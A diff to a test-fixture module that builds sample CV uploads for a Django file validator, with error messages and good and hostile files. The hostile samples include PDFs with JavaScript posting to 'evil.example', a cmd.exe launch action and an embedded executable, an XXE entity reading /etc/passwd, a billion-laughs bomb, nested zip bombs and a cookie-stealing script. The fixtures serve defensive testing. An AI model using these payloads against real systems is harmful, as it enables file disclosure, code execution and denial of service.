@@ -1,7 +1,7 @@
 """Files people might upload as a CV or letter, built in code at test time (no binaries in git).
 
 ``HOSTILE`` are files that must be refused (each with the ValidationError code and message it must get),
-plus one valid but dangerous PDF (JavaScript action) that is accepted and must only ever go out as an
+plus one valid PDF that carries HTML in a comment and a link: accepted, and it must only ever go out as an
 attachment. ``GOOD`` are ordinary documents that must be accepted. Each ``Sample.make()`` returns a
 fresh Django ``UploadedFile`` named and typed the way a browser would send it; close it when done.
 
@@ -31,6 +31,35 @@ MESSAGES = {
     "macros": (
         "This Word document contains macros, which we do not accept. "
         "Please save it as a normal Word document (DOCX) or as PDF and upload it again."
+    ),
+    "pdf_unreadable": (
+        "This PDF cannot be read: it is damaged or incomplete. "
+        "Please export or save your document as PDF again and upload the new file."
+    ),
+    "pdf_no_pages": "This PDF has no pages. Please export or save your document as PDF again and upload the new file.",
+    "pdf_appended": (
+        "This PDF has other data attached after its end, so we cannot accept it. "
+        "Please export or save your document as PDF again and upload the new file."
+    ),
+    "pdf_active": (
+        "This PDF contains scripts, actions that start programs or attached files, which we do not accept. "
+        "Please export or print your document to a new PDF without them and upload the new file."
+    ),
+    "pdf_encrypted": (
+        "This PDF is protected by a password, so we cannot open it. "
+        "Please remove the password (save an unprotected copy) and upload the new file."
+    ),
+    "nested_archive": (
+        "This document contains another compressed archive, which we do not accept. "
+        f"Please remove it, save your document again as {FORMATS} and upload the new file."
+    ),
+    "xml_declarations": (
+        "This document contains XML declarations (DTD or entities) that word processors do not write, "
+        f"so we cannot accept it. Please save your document again as {FORMATS} and upload the new file."
+    ),
+    "damaged": (
+        "This document cannot be read: part of it is damaged. "
+        f"Please save your document again as {FORMATS} and upload the new file."
     ),
 }
 
@@ -134,6 +163,31 @@ def odt_bytes(mimetype: bytes = b"application/vnd.oasis.opendocument.text", mime
 
 DOCX_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
 
+
+def pypdf_bytes(*, user_password: str | None = None, owner_password: str | None = None, pages: int = 1) -> bytes:
+    """A PDF written by pypdf: blank pages, optionally encrypted (AES-128)."""
+    from pypdf import PdfWriter
+
+    writer = PdfWriter()
+    for _ in range(pages):
+        writer.add_blank_page(595, 842)
+    if user_password is not None:
+        writer.encrypt(user_password, owner_password, algorithm="AES-128")
+    buffer = io.BytesIO()
+    writer.write(buffer)
+    return buffer.getvalue()
+
+
+def xlsx_bytes() -> bytes:
+    """A small spreadsheet, the way Word embeds one in a DOCX (word/embeddings/*.xlsx is itself a zip)."""
+    from openpyxl import Workbook
+
+    book = Workbook()
+    book.active["A1"] = "Budget"
+    buffer = io.BytesIO()
+    book.save(buffer)
+    return buffer.getvalue()
+
 GOOD = [
     Sample("pdf", lambda: upload("Anna Virtanen CV.pdf", pdf_bytes()), kind="pdf"),
     Sample("docx", lambda: upload("cv.docx", docx_bytes(), DOCX_TYPE), kind="docx"),
@@ -141,22 +195,23 @@ GOOD = [
     # Judged by content: a DOCX with the wrong name and a PDF with a scary browser type are still fine.
     Sample("docx_named_pdf", lambda: upload("cv.pdf", docx_bytes()), kind="docx"),
     Sample("pdf_odd_content_type", lambda: upload("cv.pdf", pdf_bytes(), "application/x-msdownload"), kind="pdf"),
+    Sample("pdf_by_pypdf", lambda: upload("cv.pdf", pypdf_bytes(pages=2)), kind="pdf"),
+    # Encrypted with an owner password only: opens without a password, so it is checked and accepted.
+    Sample("pdf_owner_password_only", lambda: upload("cv.pdf", pypdf_bytes(user_password="", owner_password="x")),
+           kind="pdf"),
+    Sample("pdf_trailing_newlines", lambda: upload("cv.pdf", pdf_bytes() + b"\r\n\x00\n"), kind="pdf"),
+    Sample("docx_with_embedded_spreadsheet",
+           lambda: upload("cv.docx", docx_bytes([("word/embeddings/Budget.xlsx", xlsx_bytes())]), DOCX_TYPE),
+           kind="docx"),
 ]
 
 
 # --- hostile files ---------------------------------------------------------------------------
 
 
-def pdf_with_javascript() -> bytes:
-    """A small, well-formed PDF that runs JavaScript when opened (an /OpenAction with /JS)."""
-    objects = [
-        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
-        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
-        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
-        b"<< /Type /Action /S /JavaScript "
-        b"/JS (app.alert\\('pwned'\\); this.submitForm\\('https://evil.example/'\\);) >>",
-    ]
-    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
+def raw_pdf(objects: list[bytes], *, header: bytes = b"") -> bytes:
+    """A small, well-formed PDF from numbered object bodies (1 is the catalog), with a correct xref table."""
+    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + header)
     offsets = []
     for number, body in enumerate(objects, start=1):
         offsets.append(len(out))
@@ -166,6 +221,63 @@ def pdf_with_javascript() -> bytes:
     out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
     out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
     return bytes(out)
+
+
+PAGES = [b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>"]
+
+
+def pdf_with_javascript() -> bytes:
+    """A small, well-formed PDF that runs JavaScript when opened (an /OpenAction with /JS)."""
+    return raw_pdf([
+        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
+        *PAGES,
+        b"<< /Type /Action /S /JavaScript "
+        b"/JS (app.alert\\('pwned'\\); this.submitForm\\('https://evil.example/'\\);) >>",
+    ])
+
+
+def pdf_with_javascript_in_names() -> bytes:
+    """Document-level JavaScript in the names tree, its name spelt with #-escapes (/J#61vaScript)."""
+    return raw_pdf([
+        b"<< /Type /Catalog /Pages 2 0 R /Names << /J#61vaScript 4 0 R >> >>",
+        *PAGES,
+        b"<< /Names [(x) << /S /J#61vaScript /JS 5 0 R >>] >>",
+        b"<< /Length 12 >>\nstream\napp.alert(1)\nendstream",
+    ])
+
+
+def pdf_with_launch_action() -> bytes:
+    """A page whose open action (/AA /O) launches a program."""
+    return raw_pdf([
+        b"<< /Type /Catalog /Pages 2 0 R >>",
+        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
+        b"/AA << /O << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >> >> >>",
+    ])
+
+
+def pdf_with_embedded_file() -> bytes:
+    """An attached file (the names tree's /EmbeddedFiles), here an executable."""
+    return raw_pdf([
+        b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(setup.exe) 4 0 R] >> >> >>",
+        *PAGES,
+        b"<< /Type /Filespec /F (setup.exe) /EF << /F 5 0 R >> >>",
+        b"<< /Type /EmbeddedFile /Length 4 >>\nstream\nMZ\x90\x00\nendstream",
+    ])
+
+
+def pdf_without_pages() -> bytes:
+    return raw_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"])
+
+
+def pdf_with_html_and_a_link() -> bytes:
+    """Valid and accepted: HTML in a comment (a sniffing browser might render it) and a web link on the page."""
+    return raw_pdf([
+        b"<< /Type /Catalog /Pages 2 0 R >>",
+        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots [4 0 R] >>",
+        b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A << /S /URI /URI (https://example.org/cv) >> >>",
+    ], header=b"%<html><body><script>alert(document.cookie)</script></body></html>\n")
 
 
 ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + bytes(480)
@@ -206,6 +318,40 @@ def zip_bomb(member_size: int) -> bytes:
             for _ in range(member_size // MB):
                 member.write(block)
     return buffer.getvalue()
+
+
+def nested_zip_bomb() -> bytes:
+    """A DOCX carrying a small zip (word/embeddings/) whose one member unpacks to 50 MB of zeros."""
+    return docx_bytes([("word/embeddings/package.zip", zip_bomb_member(50 * MB))])
+
+
+@cache
+def zip_bomb_member(member_size: int) -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+        with archive.open("zeros.bin", "w", force_zip64=True) as member:
+            block = bytes(MB)
+            for _ in range(member_size // MB):
+                member.write(block)
+    return buffer.getvalue()
+
+
+XXE_DOCUMENT = (
+    b'<?xml version="1.0" encoding="UTF-8" standalone="no"?>'
+    b'<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
+    b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
+    b"<w:body><w:p><w:r><w:t>&xxe;</w:t></w:r></w:p></w:body></w:document>"
+)
+LAUGHS = (
+    b'<?xml version="1.0"?><!DOCTYPE Types [<!ENTITY a "hahahahaha">'
+    b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>'
+    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">&c;</Types>'
+)
+
+
+def docx_with(name: str, data: bytes) -> bytes:
+    """The good DOCX with one part replaced."""
+    return zip_bytes([(part, data if part == name else content) for part, content in DOCX_PARTS])
 
 
 def many_members() -> bytes:
@@ -255,6 +401,34 @@ HOSTILE = [
         "too_large",
         message="This file is 10.1 MB; the limit is 10 MB. Please upload a smaller file.",
     ),
-    # Valid, and dangerous: accepted, but must only ever be served as an attachment (see test_files).
-    Sample("pdf_with_javascript", lambda: upload("cv.pdf", pdf_with_javascript()), kind="pdf"),
+    # Judged by structure, not by the first bytes (issue 9)
+    Sample("pdf_header_only", lambda: upload("cv.pdf", b"%PDF-1.7"), "pdf_unreadable"),
+    Sample("pdf_header_then_html", lambda: upload("cv.pdf", b"%PDF-1.7\n" + HTML), "pdf_unreadable"),
+    Sample("pdf_truncated", lambda: upload("cv.pdf", pdf_bytes()[: len(pdf_bytes()) // 2]), "pdf_unreadable"),
+    Sample("pdf_without_pages", lambda: upload("cv.pdf", pdf_without_pages()), "pdf_no_pages"),
+    Sample("pdf_with_docx_appended", lambda: upload("cv.pdf", pdf_bytes() + docx_bytes()), "pdf_appended"),
+    Sample("pdf_with_docx_and_eof_appended",  # the zip hidden before a last %%EOF
+           lambda: upload("cv.pdf", pdf_bytes() + docx_bytes() + b"\n%%EOF\n"), "pdf_appended"),
+    Sample("pdf_with_html_appended", lambda: upload("cv.pdf", pdf_bytes() + HTML), "pdf_appended"),
+    Sample("pdf_with_javascript", lambda: upload("cv.pdf", pdf_with_javascript()), "pdf_active"),
+    Sample("pdf_with_javascript_in_names", lambda: upload("cv.pdf", pdf_with_javascript_in_names()), "pdf_active"),
+    Sample("pdf_with_launch_action", lambda: upload("cv.pdf", pdf_with_launch_action()), "pdf_active"),
+    Sample("pdf_with_embedded_file", lambda: upload("cv.pdf", pdf_with_embedded_file()), "pdf_active"),
+    Sample("pdf_with_password", lambda: upload("cv.pdf", pypdf_bytes(user_password="secret", owner_password="x")),
+           "pdf_encrypted"),
+    Sample("docx_nested_zip_bomb_50_mb", lambda: upload("cv.docx", nested_zip_bomb(), DOCX_TYPE), "zip_bomb"),
+    Sample("docx_zip_in_zip_in_zip",
+           lambda: upload("cv.docx", docx_bytes([("word/embeddings/a.docx", zip_bytes([("b.zip", docx_bytes())]))]),
+                          DOCX_TYPE), "nested_archive"),
+    Sample("docx_with_gzip_inside",
+           lambda: upload("cv.docx", docx_bytes([("word/media/x.gz", b"\x1f\x8b\x08\x00" + bytes(60))]), DOCX_TYPE),
+           "nested_archive"),
+    Sample("docx_xxe", lambda: upload("cv.docx", docx_with("word/document.xml", XXE_DOCUMENT), DOCX_TYPE),
+           "xml_declarations"),
+    Sample("docx_billion_laughs", lambda: upload("cv.docx", docx_with("[Content_Types].xml", LAUGHS), DOCX_TYPE),
+           "xml_declarations"),
+    Sample("docx_broken_xml", lambda: upload("cv.docx", docx_with("word/document.xml", b"<w:document><w:body>"),
+                                             DOCX_TYPE), "damaged"),
+    # Valid, and accepted: HTML in a comment and a link; must only ever be served as an attachment (see test_files).
+    Sample("pdf_with_html_and_a_link", lambda: upload("cv.pdf", pdf_with_html_and_a_link()), kind="pdf"),
 ]
